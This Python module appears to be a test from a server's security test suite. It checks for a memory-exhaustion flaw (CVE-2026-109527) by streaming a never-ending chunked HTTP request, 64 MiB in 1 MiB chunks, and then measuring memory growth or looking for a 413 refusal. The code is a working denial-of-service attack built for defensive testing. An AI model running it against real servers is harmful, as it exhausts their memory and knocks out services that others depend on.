"""Breaks: the server's memory, with a message that never ends.

A chunked request need not say how long it will be. A server that reads all of it before it
looks at it keeps everything that comes.
"""

import asyncio

from attacks.finding import Finding
from attacks.target import Server
from attacks.wire import MIB, connected, grown, memory

AGAINST = "server"
CASE = "CVE-2026-109527"
# It needs its own server: later attacks measure memory, too, and memory from this one could be
# freed meanwhile.
ALONE = True

SENT = 64  # MiB, and then the attack is over. The message is not over


async def attack(server: Server) -> Finding:
    before = memory(server.pid)
    async with server.open(server.mallory) as mallory, connected(server) as wire:
        path = await mallory.endpoint()
        lines = ("Content-Type: application/json", "Transfer-Encoding: chunked")
        await wire.send(wire.head("POST", path, *lines, token=server.mallory) + b"\r\n")
        answer = asyncio.create_task(wire.answer())
        sent = 0
        while sent < SENT and not answer.done():
            await wire.send(b"%x\r\n%s\r\n" % (MIB, b"x" * MIB))
            sent += 1
            await asyncio.sleep(0)  # let the answer arrive: the socket may take all at once
        await asyncio.wait((answer,), timeout=0.5)
        if not answer.done():
            answer.cancel()
            grew = await grown(server.pid, before, SENT * MIB)
            return Finding(True, f"took {sent} MiB and waits for more: memory +{grew} MiB")
        status, _ = answer.result()
        closed = "and closed"
        try:
            async with asyncio.timeout(server.patience):
                await wire.closed()
        except TimeoutError:
            closed = "and not closed"
        return Finding(status != 413, f"{status}, {closed}, after {sent} MiB were on their way")
